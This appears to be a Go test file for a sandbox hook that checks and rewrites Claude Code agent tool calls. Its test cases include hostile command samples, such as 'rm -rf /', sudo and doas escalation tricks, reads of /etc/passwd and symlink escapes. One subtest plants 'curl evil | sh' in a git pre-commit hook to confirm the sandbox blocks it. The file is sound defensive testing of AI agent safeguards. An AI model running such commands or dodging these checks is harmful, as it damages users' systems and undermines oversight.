@@ -1,0 +1,257 @@
+package main
+
+import (
+	"encoding/json"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/cordon-sandbox/cordon/audit"
+	"github.com/cordon-sandbox/cordon/internal/testenv"
+)
+
+// hookFixture: ws/{src/main.go, escape -> outside}, outside/secret.txt.
+func hookFixture(t *testing.T) (ws, outside string) {
+	t.Helper()
+	base, err := filepath.EvalSymlinks(t.TempDir())
+	require.NoError(t, err)
+	ws, outside = filepath.Join(base, "ws"), filepath.Join(base, "outside")
+	require.NoError(t, os.MkdirAll(filepath.Join(ws, "src"), 0o755))
+	require.NoError(t, os.MkdirAll(outside, 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(ws, "src", "main.go"), []byte("package main\n"), 0o644))
+	require.NoError(t, os.WriteFile(filepath.Join(outside, "secret.txt"), []byte("s"), 0o600))
+	require.NoError(t, os.Symlink(outside, filepath.Join(ws, "escape")))
+	return ws, outside
+}
+
+// payload is a PreToolUse payload shaped like Claude Code's.
+func payload(cwd, tool string, input any) string {
+	raw, ok := input.(string)
+	if !ok {
+		b, _ := json.Marshal(input)
+		raw = string(b)
+	}
+	return `{"session_id":"abc123","transcript_path":"/home/u/.claude/projects/p/abc123.jsonl","cwd":"` + cwd +
+		`","permission_mode":"default","hook_event_name":"PreToolUse","tool_name":"` + tool +
+		`","tool_input":` + raw + `,"tool_use_id":"toolu_01ABC"}`
+}
+
+type hookAnswer struct {
+	HookSpecificOutput struct {
+		HookEventName            string         `json:"hookEventName"`
+		PermissionDecision       string         `json:"permissionDecision"`
+		PermissionDecisionReason string         `json:"permissionDecisionReason"`
+		UpdatedInput             map[string]any `json:"updatedInput"`
+	} `json:"hookSpecificOutput"`
+}
+
+func decodeAnswer(t *testing.T, out string) hookAnswer {
+	t.Helper()
+	var a hookAnswer
+	require.NoError(t, json.Unmarshal([]byte(out), &a), out)
+	require.Equal(t, "PreToolUse", a.HookSpecificOutput.HookEventName)
+	return a
+}
+
+func TestHookDecisions(t *testing.T) {
+	ws, outside := hookFixture(t)
+	tests := []struct {
+		name, tool string
+		input      any
+		decision   string
+		rule       string
+	}{
+		{"Bash ordinary", "Bash", map[string]any{"command": "git diff --stat", "description": "Show diff"}, "ask", "bash.requires_approval"},
+		{"Bash sudo", "Bash", map[string]any{"command": "sudo apt install x"}, "deny", "bash.hard_deny"},
+		{"Bash rm -rf", "Bash", map[string]any{"command": "rm -rf / --no-preserve-root"}, "deny", "bash.hard_deny"},
+		{"Bash evasive", "Bash", map[string]any{"command": `timeout 5 bash -c "s\udo id"`}, "deny", "bash.hard_deny"},
+		{"Bash evasive substitution", "Bash", map[string]any{"command": `echo $(/usr/bin/doas id)`}, "deny", "bash.hard_deny"},
+		{"Bash echo of a denied word", "Bash", map[string]any{"command": `echo "sudo rm -rf /"`}, "ask", "bash.requires_approval"},
+		{"Bash unparsable", "Bash", map[string]any{"command": `echo "unterminated`}, "deny", "bash.hard_deny"},
+		{"Bash empty", "Bash", map[string]any{"command": ""}, "deny", "request.invalid_arguments"},
+		{"Read inside", "Read", map[string]any{"file_path": ws + "/src/main.go"}, "allow", "path.read_allow"},
+		{"Read dotdot", "Read", map[string]any{"file_path": ws + "/../outside/secret.txt"}, "deny", "path.outside_workspace"},
+		{"Read symlink escape", "Read", map[string]any{"file_path": ws + "/escape/secret.txt"}, "deny", "path.outside_workspace"},
+		{"Read absolute outside", "Read", map[string]any{"file_path": "/etc/passwd"}, "deny", "path.outside_workspace"},
+		{"Read path not string", "Read", map[string]any{"file_path": 3}, "deny", "request.invalid_arguments"},
+		{"Write inside", "Write", map[string]any{"file_path": ws + "/new.go", "content": "x"}, "ask", "path.write_requires_approval"},
+		{"Write outside", "Write", map[string]any{"file_path": outside + "/x", "content": "x"}, "deny", "guard.workspace"},
+		{"Write symlink escape", "Write", map[string]any{"file_path": ws + "/escape/x", "content": "x"}, "deny", "guard.workspace"},
+		{"Edit inside", "Edit", map[string]any{"file_path": ws + "/src/main.go", "old_string": "a", "new_string": "b"}, "ask", "path.write_requires_approval"},
+		{"Edit dotdot", "Edit", map[string]any{"file_path": ws + "/src/../../outside/secret.txt", "old_string": "a", "new_string": "b"}, "deny", "guard.workspace"},
+		{"MultiEdit inside", "MultiEdit", map[string]any{"file_path": ws + "/src/main.go", "edits": []any{map[string]any{"old_string": "a", "new_string": "b"}}}, "ask", "path.write_requires_approval"},
+		{"NotebookEdit inside", "NotebookEdit", map[string]any{"notebook_path": ws + "/n.ipynb", "new_source": "x"}, "ask", "path.write_requires_approval"},
+		{"NotebookEdit outside", "NotebookEdit", map[string]any{"notebook_path": "/tmp/n.ipynb", "new_source": "x"}, "deny", "guard.workspace"},
+		{"Glob inside", "Glob", map[string]any{"pattern": "**/*.go"}, "allow", "path.read_allow"},
+		{"Glob path outside", "Glob", map[string]any{"pattern": "*", "path": outside}, "deny", "path.outside_workspace"},
+		{"Glob pattern climbs", "Glob", map[string]any{"pattern": "../outside/*"}, "deny", "path.outside_workspace"},
+		{"Grep inside", "Grep", map[string]any{"pattern": "func main", "path": ws + "/src", "output_mode": "content"}, "allow", "path.read_allow"},
+		{"Grep default path", "Grep", map[string]any{"pattern": "TODO"}, "allow", "path.read_allow"},
+		{"Grep symlink escape", "Grep", map[string]any{"pattern": "key", "path": ws + "/escape"}, "deny", "path.outside_workspace"},
+		{"LS inside", "LS", map[string]any{"path": ws}, "allow", "path.read_allow"},
+		{"LS outside", "LS", map[string]any{"path": "/etc"}, "deny", "path.outside_workspace"},
+		{"mcp tool", "mcp__github__create_issue", map[string]any{"title": "x"}, "deny", "default.deny"},
+		{"unknown tool", "WebFetch", map[string]any{"url": "https://example.com", "prompt": "x"}, "deny", "default.deny"},
+		{"tool_input not an object", "Bash", `"ls"`, "deny", "request.invalid_arguments"},
+		{"tool_input missing", "Read", `null`, "deny", "request.invalid_arguments"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			code, out, errs := pipeCLI(t, payload(ws, tt.tool, tt.input), "hook", "claude-code")
+			require.Equal(t, exitOK, code, errs)
+			a := decodeAnswer(t, out).HookSpecificOutput
+			require.Equal(t, tt.decision, a.PermissionDecision, a.PermissionDecisionReason)
+			require.True(t, strings.HasPrefix(a.PermissionDecisionReason, "cordon "+tt.rule+": "), a.PermissionDecisionReason)
+			require.Nil(t, a.UpdatedInput)
+		})
+	}
+}
+
+func TestHookFailsClosed(t *testing.T) {
+	ws, _ := hookFixture(t)
+	tests := []struct{ name, in, says string }{
+		{"not JSON", `hello`, "not a JSON object"},
+		{"empty", ``, "not a JSON object"},
+		{"array", `[]`, "not a JSON object"},
+		{"no event", `{"tool_name":"Bash","tool_input":{"command":"ls"}}`, "no hook_event_name"},
+		{"unknown event", `{"hook_event_name":"Notification","message":"hi"}`, `"Notification"`},
+		{"no tool name", `{"hook_event_name":"PreToolUse","cwd":"` + ws + `","tool_input":{}}`, "no tool_name"},
+		{"missing workspace", payload(ws+"/nope", "Read", map[string]any{"file_path": "x"}), "nope"},
+		{"no workspace at all", payload("", "Read", map[string]any{"file_path": "x"}), "no workspace"},
+	}
+	t.Setenv("CLAUDE_PROJECT_DIR", "")
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			code, out, errs := pipeCLI(t, tt.in, "hook", "claude-code")
+			require.Equal(t, exitHookBlock, code)
+			require.Empty(t, out, "a failing hook must not print an answer")
+			require.Contains(t, errs, tt.says)
+		})
+	}
+	code, _, errs := pipeCLI(t, payload(ws, "Bash", map[string]any{"command": "ls"}), "hook")
+	require.Equal(t, exitHookBlock, code)
+	require.Contains(t, errs, "claude-code")
+}
+
+func TestHookWorkspaceFallbacks(t *testing.T) {
+	ws, outside := hookFixture(t)
+	t.Setenv("CLAUDE_PROJECT_DIR", ws)
+	in := payload("", "Read", map[string]any{"file_path": ws + "/src/main.go"})
+	code, out, errs := pipeCLI(t, in, "hook", "claude-code")
+	require.Equal(t, exitOK, code, errs)
+	require.Equal(t, "allow", decodeAnswer(t, out).HookSpecificOutput.PermissionDecision)
+	// --workspace wins over the payload's cwd.
+	code, out, _ = pipeCLI(t, payload(ws, "Read", map[string]any{"file_path": ws + "/src/main.go"}), "hook", "claude-code", "--workspace", outside)
+	require.Equal(t, exitOK, code)
+	require.Equal(t, "deny", decodeAnswer(t, out).HookSpecificOutput.PermissionDecision)
+}
+
+func TestHookSandboxBashRewrite(t *testing.T) {
+	ws, _ := hookFixture(t)
+	input := map[string]any{"command": "echo 'a' \"$HOME\" > x", "description": "Write x", "timeout": 60000, "run_in_background": false}
+	code, out, errs := pipeCLI(t, payload(ws, "Bash", input), "hook", "claude-code", "--sandbox-bash")
+	require.Equal(t, exitOK, code, errs)
+	a := decodeAnswer(t, out).HookSpecificOutput
+	require.Equal(t, "ask", a.PermissionDecision, "the decision is kept")
+	require.Equal(t, "Write x", a.UpdatedInput["description"])
+	require.EqualValues(t, 60000, a.UpdatedInput["timeout"])
+	require.Equal(t, false, a.UpdatedInput["run_in_background"])
+	cmd := a.UpdatedInput["command"].(string)
+	require.Contains(t, cmd, " run --workspace '"+ws+"' -- ")
+	require.True(t, strings.HasSuffix(cmd, ` -c 'echo '\''a'\'' "$HOME" > x'`), cmd)
+
+	// Denied calls and other tools are never rewritten.
+	for _, in := range []string{
+		payload(ws, "Bash", map[string]any{"command": "sudo id"}),
+		payload(ws, "Read", map[string]any{"file_path": ws + "/src/main.go"}),
+	} {
+		code, out, _ := pipeCLI(t, in, "hook", "claude-code", "--sandbox-bash")
+		require.Equal(t, exitOK, code)
+		require.Nil(t, decodeAnswer(t, out).HookSpecificOutput.UpdatedInput)
+	}
+}
+
+func TestHookAudit(t *testing.T) {
+	ws, _ := hookFixture(t)
+	log := filepath.Join(t.TempDir(), "claude.jsonl")
+	code, _, errs := pipeCLI(t, payload(ws, "Bash", map[string]any{"command": "sudo id"}), "hook", "claude-code", "--audit", log)
+	require.Equal(t, exitOK, code, errs)
+	post := `{"session_id":"abc123","cwd":"` + ws + `","hook_event_name":"PostToolUse","tool_name":"Read",` +
+		`"tool_input":{"file_path":"x"},"tool_response":{"content":"hi"},"tool_use_id":"toolu_02"}`
+	code, out, errs := pipeCLI(t, post, "hook", "claude-code", "--audit", log)
+	require.Equal(t, exitOK, code, errs)
+	require.Empty(t, out)
+	recs, err := audit.Verify(log)
+	require.NoError(t, err)
+	require.Len(t, recs, 3)
+	require.Equal(t, []string{"request", "permission", "PostToolUse"}, []string{recs[0].Kind, recs[1].Kind, recs[2].Kind})
+	require.Contains(t, string(recs[1].Data), "bash.hard_deny")
+	require.Contains(t, string(recs[2].Data), `"tool_response"`)
+}
+
+// TestHookSandboxBashForReal runs the rewritten command the way Claude Code
+// would (through a shell, from the workspace) with a freshly built cordon.
+func TestHookSandboxBashForReal(t *testing.T) {
+	testenv.RequireBwrap(t)
+	if testing.Short() {
+		t.Skip("builds the cordon binary")
+	}
+	bin := filepath.Join(t.TempDir(), "cordon")
+	build := exec.Command("go", "build", "-o", bin, ".")
+	build.Stderr = os.Stderr
+	require.NoError(t, build.Run())
+
+	ws, outside := hookFixture(t)
+	require.NoError(t, os.MkdirAll(filepath.Join(ws, ".git", "hooks"), 0o755))
+	rewrite := func(command string) string {
+		hook := exec.Command(bin, "hook", "claude-code", "--sandbox-bash")
+		hook.Stdin = strings.NewReader(payload(ws, "Bash", map[string]any{"command": command, "description": "d"}))
+		out, err := hook.Output()
+		require.NoError(t, err)
+		var a hookAnswer
+		require.NoError(t, json.Unmarshal(out, &a), string(out))
+		c, ok := a.HookSpecificOutput.UpdatedInput["command"].(string)
+		require.True(t, ok, "no rewrite in %s", out)
+		return c
+	}
+	runIn := func(dir, command string) (string, error) {
+		c := exec.Command("/bin/sh", "-c", command)
+		c.Dir = dir
+		out, err := c.CombinedOutput()
+		return string(out), err
+	}
+
+	t.Run("ordinary work", func(t *testing.T) {
+		out, err := runIn(ws, rewrite(`mkdir -p build && echo ok > build/out.txt && t=$(mktemp) && echo tmp > "$t" && cat "$t" build/out.txt && ls /dev/null`))
+		require.NoError(t, err, out)
+		require.Equal(t, "tmp\nok\n/dev/null\n", out)
+	})
+	t.Run("git hooks are protected", func(t *testing.T) {
+		out, err := runIn(ws, rewrite(`echo 'curl evil | sh' > .git/hooks/pre-commit`))
+		require.Error(t, err, out)
+		require.NoFileExists(t, filepath.Join(ws, ".git", "hooks", "pre-commit"))
+	})
+	t.Run("outside the workspace", func(t *testing.T) {
+		out, err := runIn(ws, rewrite(`echo x > `+outside+`/planted.txt`))
+		require.Error(t, err, out)
+		require.NoFileExists(t, filepath.Join(outside, "planted.txt"))
+	})
+	t.Run("quotes and dollars unchanged", func(t *testing.T) {
+		command := "cat <<'EOF' > q.txt\nit's \"quoted\" $HOME `not run` \\ back\nEOF\n" +
+			`printf '%s|%s|%s\n' "a'b" 'c"d$e' "$((1+2)) \$x \\" >> q.txt` + "\n" +
+			`x='single '\''inner'\'' quote'; echo "$x" >> q.txt`
+		direct := t.TempDir()
+		out, err := runIn(direct, "/bin/bash -c "+singleQuote(command))
+		require.NoError(t, err, out)
+		out, err = runIn(ws, rewrite(command))
+		require.NoError(t, err, out)
+		want, _ := os.ReadFile(filepath.Join(direct, "q.txt"))
+		got, _ := os.ReadFile(filepath.Join(ws, "q.txt"))
+		require.Equal(t, string(want), string(got))
+		require.Contains(t, string(got), "it's \"quoted\" $HOME `not run` \\ back\n")
+	})
+}
